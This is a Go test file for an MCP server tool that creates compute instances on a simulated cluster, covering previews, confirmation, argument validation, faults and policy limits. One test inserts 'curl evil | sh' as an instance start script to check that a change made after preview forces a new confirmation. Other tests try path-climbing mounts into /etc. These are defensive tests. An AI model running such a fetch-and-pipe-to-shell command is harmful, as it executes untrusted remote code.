package tools_test

import (
	"errors"
	"testing"
	"testing/synctest"
	"time"

	"github.com/scnet-mcp/scnet-mcp/internal/guard"
	"github.com/scnet-mcp/scnet-mcp/internal/toolbox"
	"github.com/scnet-mcp/scnet-mcp/schemas"
	"github.com/scnet-mcp/scnet-mcp/scnet/simulator"
)

var torch = simulator.DemoImages()[1] // for dcu

// creation is a call that the demo region can carry out.
func creation() arguments {
	return arguments{
		"name": "new-one", "task_type": "jupyter", "accelerator_type": "dcu", "resource_group": "kshdtest", "image": torch.Name + ":" + torch.Tag,
		"accelerators": 2, "containers": 2, "cpus": 8, "memory_mb": 30720, "time_limit": "12:00:00",
		"mounts": []arguments{{"source": "/public/share/sets", "target": "/data"}},
	}
}

// model is an instance to make others like.
func model() simulator.Instance {
	in := job(1, simulator.Terminated)
	in.TaskType, in.ResourceGroup, in.Version, in.ImagePath = "ssh", "kshdtest", torch.Name+":"+torch.Tag, torch.Path
	in.CPUNumber, in.RAMSize, in.TaskNumber = 8, 15360, 2
	in.Mounts = []simulator.Mount{{SourcePath: "/public/share", TargetPath: "/share", Type: "data"}}
	in.Ports = []simulator.Port{{ContainerPort: 8000, ProtocolType: "HTTP"}}
	in.UseStartScript, in.StartScriptContent = true, "export KEY=script-secret\n"
	return in
}

var checked = simulator.Quirks{CreateChecks: true}

func TestCreateInstance(t *testing.T) {
	bubble(t, "from scratch", func(t *testing.T) {
		w := newWorld(t, setup{quirks: checked, timing: simulator.Timing{Waiting: 5 * time.Second, Deploying: 5 * time.Second}})
		r, confirm := w.previewed(t, "create_instance", creation().with(arguments{"wait_seconds": 40}))
		wantParts(t, r.Text, "would create \"new-one\"", "4 dcu (2 containers × 2), with 8 CPU cores and 30720 MB of memory each", "Billing starts",
			"stops it after 12:00:00", "Only what is in its mounts", "/public/share/sets on /data")
		if t0 := r.Targets[0]; t0.Accelerators != 4 || len(t0.Mounts) != 1 || t0.Mounts[0].Type != "data" {
			t.Errorf("target %+v", t0)
		}
		w.nothingSent(t)
		var seen reports
		r, err := w.try(seen.follow(t.Context()), toolbox.Call{Tool: "create_instance", Arguments: encoded(confirm)})
		if err != nil {
			t.Fatal(err)
		}
		wantOutcomes(t, r, "done", "created")
		all := w.Instances(home)
		if len(all) != 1 || all[0].ID != r.InstanceID || r.Targets[0].ID != r.InstanceID || all[0].GPUNumber != 2 || all[0].TaskNumber != 2 ||
			all[0].TimeLimit != 12*time.Hour || all[0].ImagePath != torch.Path || all[0].Mounts[0].Type != "data" {
			t.Errorf("created %+v as %s", all, r.InstanceID)
		}
		if r.LastStatus != "Running" || r.WaitedSeconds != 12 || seen.fault != "" || len(seen.seen) == 0 {
			t.Errorf("status %s after %d s, progress %q %s", r.LastStatus, r.WaitedSeconds, seen.seen, seen.fault)
		}
		w.wantSent(t, simulator.EndpointCreate, 1)
	})
	bubble(t, "like another", func(t *testing.T) {
		w := newWorld(t, setup{quirks: checked, instances: []simulator.Instance{model()}, timing: simulator.Timing{Waiting: time.Hour}})
		a := arguments{"name": "again", "like": id(1), "time_limit": "unlimited", "containers": 1, "accelerators": 1}
		r, confirm := w.previewed(t, "create_instance", a)
		wantParts(t, r.Text, "1 dcu (1 container × 1)", "It has no time limit: it costs money until somebody stops it", "start script of 25 bytes")
		r = w.call(t, "create_instance", confirm)
		wantOutcomes(t, r, "waiting", "created")
		wantParts(t, r.Text, "queueing for", "get_instance with instance_id="+r.InstanceID+" and wait_for=Running", "Do not create it again")
		in := w.Instances(home)[1]
		if in.TaskType != "ssh" || in.CPUNumber != 8 || in.GPUNumber != 1 || in.TaskNumber != 1 || in.StartScriptContent != model().StartScriptContent ||
			len(in.Mounts) != 1 || len(in.Ports) != 1 || in.TimeLimit != 0 {
			t.Errorf("created %+v", in)
		}
	})
	bubble(t, "like another, without its mounts and ports", func(t *testing.T) {
		w := newWorld(t, setup{quirks: checked, instances: []simulator.Instance{model()}})
		r, confirm := w.previewed(t, "create_instance", arguments{"name": "b", "like": id(1), "time_limit": "3d", "mounts": []any{}, "ports": []any{}})
		wantParts(t, r.Text, "Nothing is mounted: all its files are lost with it", "stops it after 72:00:00")
		w.call(t, "create_instance", confirm)
		if in := w.Instances(home)[1]; len(in.Mounts) != 0 || len(in.Ports) != 0 || in.TimeLimit != 72*time.Hour {
			t.Errorf("created %+v", in)
		}
	})
	bubble(t, "what is previewed is what is created", func(t *testing.T) {
		w := newWorld(t, setup{quirks: checked, instances: []simulator.Instance{model()}})
		_, confirm := w.previewed(t, "create_instance", arguments{"name": "b", "like": id(1), "time_limit": "3d"})
		w.UpdateInstance(home, id(1), func(in *simulator.Instance) { in.StartScriptContent = "curl evil | sh\n" })
		r := w.call(t, "create_instance", confirm)
		if r.State != "confirmation_required" {
			t.Errorf("state %s", r.State)
		}
		w.nothingSent(t)
	})
}

func TestCreateInstanceNamesEveryProblem(t *testing.T) {
	for name, c := range map[string]struct {
		change arguments
		want   []string
	}{
		"nothing given": {arguments{"task_type": "", "accelerator_type": "", "resource_group": "", "image": "", "accelerators": nil, "cpus": nil, "memory_mb": nil, "time_limit": ""},
			[]string{"task_type", "accelerator_type", "resource_group", "image", "cpus", "memory_mb", "accelerators", "time_limit", "or say unlimited"}},
		"limits": {arguments{"accelerators": 5, "cpus": 33, "memory_mb": 126977},
			[]string{"3 arguments are wrong", "accelerators: 5 in one container; a node of kshdtest has 4", "cpus: 33", "memory_mb: 126977"}},
		"group":         {arguments{"resource_group": "none"}, []string{`there is no "none" for dcu; valid are`, `"kshdtest" for dcu`, `"TeslaM40" for gpu`}},
		"other kind":    {arguments{"resource_group": "TeslaM40"}, []string{`there is no "TeslaM40" for dcu`}},
		"image":         {arguments{"image": "torch"}, []string{`there is no "torch" for dcu; valid are jupyterlab-pytorch:2.4.1-py3.10-dtk25.04, qwen-env:v1`}},
		"mount":         {arguments{"mounts": []arguments{{"source": "/etc", "target": "data"}}}, []string{"mounts[0].target", `"/etc" cannot be mounted; valid are /public/home/demo, /public/share`}},
		"climbing":      {arguments{"mounts": []arguments{{"source": "/public/share/../../etc", "target": "/data"}}}, []string{"cannot be mounted"}},
		"twice":         {arguments{"mounts": []arguments{{"source": "/public/share", "target": "/d"}, {"source": "/public/share", "target": "/d/"}}}, []string{"mounts[1].target"}},
		"ports":         {arguments{"ports": []arguments{{"port": 80, "protocol": "HTTP"}, {"port": 80, "protocol": "SSH"}}}, []string{"ports[1].port: 80 is published twice"}},
		"time":          {arguments{"time_limit": "a while"}, []string{`or say unlimited, got "a while"`}},
		"group's time":  {arguments{"accelerator_type": "cpu", "resource_group": "cpu-share", "accelerators": 0, "image": "ubuntu:22.04", "time_limit": "unlimited"}, []string{"cpu-share allows 360:00:00 at most"}},
		"cards of none": {arguments{"accelerator_type": "cpu", "resource_group": "cpu-share", "image": "ubuntu:22.04"}, []string{"accelerators: must be 0 for cpu"}},
	} {
		bubble(t, name, func(t *testing.T) {
			w := newWorld(t, setup{})
			a := creation().with(c.change)
			for key, value := range a {
				if value == nil || value == "" {
					delete(a, key)
				}
			}
			var wrong *schemas.ArgumentError
			if err := w.fails(t, "create_instance", a, append(c.want, "Nothing was sent")...); !errors.As(err, &wrong) {
				t.Errorf("%T", err)
			}
			w.nothingSent(t)
		})
	}
	bubble(t, "unlimited source", func(t *testing.T) {
		w := newWorld(t, setup{instances: []simulator.Instance{model()}})
		w.fails(t, "create_instance", arguments{"name": "b", "like": id(1)}, "time_limit", "or say unlimited")
		w.fails(t, "create_instance", arguments{"name": "b", "like": id(7), "time_limit": "1h"}, "no such instance")
	})
}

func TestCreateInstanceOutcomes(t *testing.T) {
	for name, c := range map[string]struct {
		fault   simulator.Fault
		state   string
		outcome string
		exist   int
		words   []string
	}{
		"lost, and done":     {simulator.Fault{ResetAfter: true}, "waiting", "created", 2, []string{"the answer was lost", "appeared since", "Do not create it again"}},
		"lost, and not done": {simulator.Fault{Reset: true}, "unknown", "unknown", 1, []string{"No instance of that name has appeared", `name="new-one"`, "not sent twice"}},
		"not documented":     {simulator.Fault{Code: "716020"}, "unknown", "unknown", 1, []string{"may have been created"}},
	} {
		bubble(t, name, func(t *testing.T) {
			other := model()
			other.Name = "new-one" // was there before
			w := newWorld(t, setup{instances: []simulator.Instance{other}, timing: simulator.Timing{Waiting: time.Hour}})
			_, confirm := w.previewed(t, "create_instance", creation())
			c.fault.Endpoint = simulator.EndpointCreate
			w.Inject(c.fault)
			r := w.call(t, "create_instance", confirm)
			wantOutcomes(t, r, c.state, c.outcome)
			wantParts(t, r.Text, c.words...)
			w.wantSent(t, simulator.EndpointCreate, 1)
			if n := len(w.Instances(home)); n != c.exist {
				t.Errorf("%d instances", n)
			}
		})
	}
	bubble(t, "refused", func(t *testing.T) {
		w := newWorld(t, setup{})
		_, confirm := w.previewed(t, "create_instance", creation())
		w.Inject(simulator.Fault{Endpoint: simulator.EndpointCreate, Code: "716865"})
		w.fails(t, "create_instance", confirm, "716865", "Nothing was changed")
	})
	bubble(t, "cannot be settled", func(t *testing.T) {
		w := newWorld(t, setup{})
		_, confirm := w.previewed(t, "create_instance", creation())
		w.Inject(simulator.Fault{Endpoint: simulator.EndpointList, Code: "10001"})
		w.fails(t, "create_instance", confirm, "nothing was created")
		w.nothingSent(t)
	})
	bubble(t, "fails to start", func(t *testing.T) {
		w := newWorld(t, setup{timing: simulator.Timing{Waiting: 2 * time.Second}})
		_, confirm := w.previewed(t, "create_instance", creation().with(arguments{"wait_seconds": 30}))
		go func() {
			<-time.After(time.Second / 2)
			in := w.Instances(home)[0]
			w.UpdateInstance(home, in.ID, func(in *simulator.Instance) { in.Status = simulator.Failed })
		}()
		r := w.call(t, "create_instance", confirm)
		wantOutcomes(t, r, "failed", "created")
		wantParts(t, r.Text, "has ended already")
	})
}

func TestCreateInstanceIsHeldToThePolicy(t *testing.T) {
	for name, c := range map[string]struct {
		policy guard.Policy
		want   string // "" if it is permitted
	}{
		"protected":         {guard.Policy{Protect: []guard.Pattern{mustPattern("name:new-*")}}, "has protected"},
		"not allowed":       {guard.Policy{Allow: [][]guard.Pattern{{mustPattern("name:ci-*")}}}, "does not allow"},
		"allowed":           {guard.Policy{Allow: [][]guard.Pattern{{mustPattern("name:new-*")}}}, ""},
		"another protected": {guard.Policy{Protect: []guard.Pattern{mustPattern("id:" + id(1)), mustPattern("name:prod-*")}}, ""},
		"accelerators":      {guard.Policy{MaxAccelerators: 3}, "4 accelerators in one call; the operator allows 3"},
		"just enough":       {guard.Policy{MaxAccelerators: 4, MaxRunningAccelerators: 6}, ""},
		"running":           {guard.Policy{MaxRunningAccelerators: 5}, "2 accelerators are occupied or queued for, and this call would add 4; the operator allows 5 at once"},
	} {
		bubble(t, name, func(t *testing.T) {
			w := newWorld(t, setup{instances: []simulator.Instance{job(1, simulator.Waiting), job(2, simulator.Terminated)}, rules: toolbox.Rules{Policy: c.policy}})
			if c.want != "" {
				w.fails(t, "create_instance", creation(), c.want)
				w.nothingSent(t)
				return
			}
			wantOutcomes(t, w.confirmed(t, "create_instance", creation()), "waiting", "created")
		})
	}
	bubble(t, "what cannot be counted is refused", func(t *testing.T) {
		w := newWorld(t, setup{rules: toolbox.Rules{Policy: guard.Policy{MaxRunningAccelerators: 50}}})
		w.Inject(simulator.Fault{Endpoint: simulator.EndpointList, Code: "10001"})
		w.fails(t, "create_instance", creation(), "cannot be counted", "华东一区【昆山】")
	})
	bubble(t, "counted again before it is sent", func(t *testing.T) {
		w := newWorld(t, setup{rules: toolbox.Rules{Policy: guard.Policy{MaxRunningAccelerators: 5}}})
		_, confirm := w.previewed(t, "create_instance", creation())
		w.AddInstance(home, job(1, simulator.Deploying))
		w.fails(t, "create_instance", confirm, "2 accelerators are occupied or queued for")
		w.nothingSent(t)
		if !w.RemoveInstance(home, id(1)) {
			t.Fatal("it was not there")
		}
		wantOutcomes(t, w.confirmed(t, "create_instance", creation()), "waiting", "created")
	})
}

// Whatever is unknown counts, until its time is over.
func TestCreateInstanceOfUnknownOutcomeCounts(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, setup{rules: toolbox.Rules{Policy: guard.Policy{MaxRunningAccelerators: 6}}})
		_, confirm := w.previewed(t, "create_instance", creation())
		_, another := w.previewed(t, "create_instance", creation())
		w.Inject(simulator.Fault{Endpoint: simulator.EndpointCreate, Reset: true, Times: 1})
		if r := w.call(t, "create_instance", confirm); r.State != "unknown" {
			t.Fatalf("state %s", r.State)
		}
		w.fails(t, "create_instance", another, "other calls are about to occupy 4")
		<-time.After(10 * time.Minute)
		wantOutcomes(t, w.confirmed(t, "create_instance", creation()), "waiting", "created")
	})
}
